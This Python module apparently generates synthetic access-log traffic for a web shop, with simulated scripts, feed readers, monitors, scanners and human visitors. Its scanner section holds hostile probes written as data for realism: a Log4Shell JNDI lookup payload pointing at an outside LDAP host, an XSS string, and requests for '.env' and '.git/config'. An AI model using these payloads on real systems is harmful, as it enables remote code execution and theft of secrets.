"""Everybody else: tools, readers, monitors, scanners, and people."""

from random import Random
from typing import Any

from actors import BROWSERS, Actor, Cast, Hits, some
from shop import ASSETS, CART, DAY, HOST, JOURNAL, OPEN, PRODUCTS, REVIEWS, SEARCH, clock, etag, spread

CAST = Cast()
OFFICE = "198.51.100.20"  # one address with many people and a script behind it
HTML = "text/html,application/xhtml+xml"
SITE = f"https://{HOST}"


@CAST.enter("python-requests", "python-requests/2.32.3", "198.51.100.60", OFFICE)
def script(me: Actor, chance: Random) -> Hits:
    """Compares prices on somebody's schedule.

    Another copy runs in an office and is refused (403) while the people there go on browsing: no disguise of theirs.
    """
    for day in (1, 2, 3):
        yield from me.walk(chance, clock(day, "06:00"), PRODUCTS[:25], 2.5)
    yield from me.walk(chance, clock(3, "10:05"), ["/export/prices.csv"] * 2, 20, status=403, address=OFFICE)


@CAST.enter("curl", "curl/8.5.0", "198.51.100.61", "2001:db8:61::2")
def by_hand(me: Actor, chance: Random) -> Hits:
    """Looks at headers, by somebody's hand, now and then."""
    for day, time, address in ((1, "10:00", 0), (2, "15:30", 1), (3, "09:40", 0)):
        details = {"method": "HEAD", "address": me.addresses[address]}
        yield from me.walk(chance, clock(day, time), ["/", "/products/001", "/feed.xml"], 20, **details)


@CAST.enter("Go-http-client", "Go-http-client/2.0", "198.51.100.62")
def program(me: Actor, chance: Random) -> Hits:
    """Checks links and names nobody."""
    for day in (1, 3):
        yield from me.walk(chance, clock(day, "22:00"), some(chance, JOURNAL, 20), 1.5, protocol="HTTP/2.0")


@CAST.enter(
    "ChatGPT-User",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko); compatible; ChatGPT-User/1.0; +https://openai.com/bot",
    *(f"203.0.113.{n}" for n in range(130, 142)),
    robots="exempt",
)
def for_a_person(me: Actor, chance: Random) -> Hits:
    """Fetches single pages because a person asked; robots.txt does not bind it, the search included."""
    for n in range(40):
        start = clock(1, "05:00") + n * 5_000 + spread(chance, 0, 900)
        target = chance.choice(SEARCH if n % 10 == 9 else OPEN)
        yield me.hit(start, target, took=0.08, address=chance.choice(me.addresses), accept=HTML)


@CAST.enter("FreshRSS", "FreshRSS/1.24.3 (Linux; https://freshrss.org)", "198.51.100.70", robots="exempt")
def feed_reader(me: Actor, chance: Random) -> Hits:
    """Asks for the feed every hour with If-None-Match; it has changed at 08:00 each day, else the answer is 304."""
    held = None
    for hour in range(72):
        edition = (hour + 16) // 24
        condition = None if held is None else etag(f"edition {held}")
        status, held = (304 if edition == held else 200), edition
        start = clock(1, "00:04") + hour * 3600 + spread(chance, 0, 20)
        yield me.hit(start, "/feed.xml", status=status, if_none_match=condition, took=0.002)


@CAST.enter(
    "UptimeRobot",
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "198.51.100.80",
    robots="exempt",
)
def monitor(me: Actor, chance: Random) -> Hits:
    """Asks for the head of the front page every ten minutes."""
    for n in range(3 * DAY // 600):
        yield me.hit(clock(1, "00:02") + 600 * n, "/", method="HEAD", took=spread(chance, 0.002, 0.01))


@CAST.enter("undeclared", None, "203.0.113.90", "203.0.113.91", robots="unjudged")
def nameless(me: Actor, chance: Random) -> Hits:
    """Sends no user agent, so that nobody can be written to and no line of robots.txt can name it."""
    for day, time, address in ((1, "16:00", 0), (2, "21:00", 1), (3, "02:00", 0)):
        seen = {"address": me.addresses[address], "accept": None}
        yield from me.walk(chance, clock(day, time), some(chance, PRODUCTS, 20), 2, **seen)


HELLO = r"\x16\x03\x01\x00\xEE\x01\x00\x00\xEA\x03\x03\x9B\x22\x5C"  # TLS spoken to the plain port
PROBES = [
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/xmlrpc.php",
    "/cgi-bin/luci",
    "/a.php?x=<script>alert(1)</script>",
]


@CAST.enter("undeclared", None, *(f"203.0.113.{n}" for n in range(200, 212)), robots="unjudged")
def scanners(me: Actor, chance: Random) -> Hits:
    """Are the noise of the net: TLS bytes, pages of other software, an exploit in the user agent."""
    for n in range(48):
        start, address = clock(1, "00:40") + n * 5_300 + spread(chance, 0, 3000), chance.choice(me.addresses)
        if n % 4 == 0:
            yield me.hit(start, "", request=HELLO, status=400, address=address, accept=None)
            continue
        attack = "${jndi:ldap://203.0.113.200:1389/a}" if n % 4 == 1 else None
        yield me.hit(start, chance.choice(PROBES), status=404, address=address, user_agent=attack, accept=None)


LINKS = PRODUCTS + JOURNAL + SEARCH[:4] + CART[:6] + REVIEWS[:20]
DOORS = ["https://www.google.com/", "https://forum.example/t/81", None]


def page_view(me: Actor, chance: Random, start: float, page: str, files: list[str], **seen: Any) -> Hits:
    """A page and the files that the browser does not have yet."""
    took = spread(chance, 0.02, 0.4)
    yield me.hit(start, page, took=took, accept=HTML, **seen)
    images = [f"/static/{page.rpartition('/')[2]}.webp"] if page in PRODUCTS else []
    seen |= {"referer": SITE + page, "accept": "image/webp,*/*"}
    for n, file in enumerate(files + images, start=1):
        yield me.hit(round(start + took + 0.04 * n, 3), file, took=0.003, **seen)


def visit(me: Actor, chance: Random, start: float, address: str, user_agent: str) -> Hits:
    """One person: a first page with all its files, then up to three more where the links lead."""
    page, referer, files = chance.choice(["/", *PRODUCTS[:40]]), chance.choice(DOORS), ASSETS
    for _ in range(1 + int(chance.random() * 4)):
        seen = {"address": address, "user_agent": user_agent, "referer": referer}
        yield from page_view(me, chance, start, page, files, **seen)
        page, referer, files = chance.choice(LINKS), SITE + page, []
        start += spread(chance, 8, 70)


HOMES = [f"198.51.100.{n}" for n in range(100, 250)] + [f"2001:db8:{n:x}::{n * 7:x}" for n in range(100, 160)]


@CAST.enter("browser", None, *HOMES, OFFICE, robots="exempt")
def people(me: Actor, chance: Random) -> Hits:
    """Are people at home with one browser each, more of them by day, and six in an office behind one address."""
    browser = {home: chance.choice(BROWSERS) for home in HOMES}
    for day in (1, 2, 3):
        for home in sorted(chance.sample(HOMES, 95)):
            begin = clock(day, "12:00") + DAY / 2 * (chance.random() - chance.random()) * 0.99
            yield from visit(me, chance, round(begin, 3), home, browser[home])
    for day in (2, 3):
        for n, user_agent in enumerate(BROWSERS):
            yield from visit(me, chance, clock(day, "09:20") + 60 * n, OFFICE, user_agent)
    for n, user_agent in enumerate(BROWSERS[:3]):
        yield from visit(me, chance, clock(3, "10:06") + 30 * n, OFFICE, user_agent)
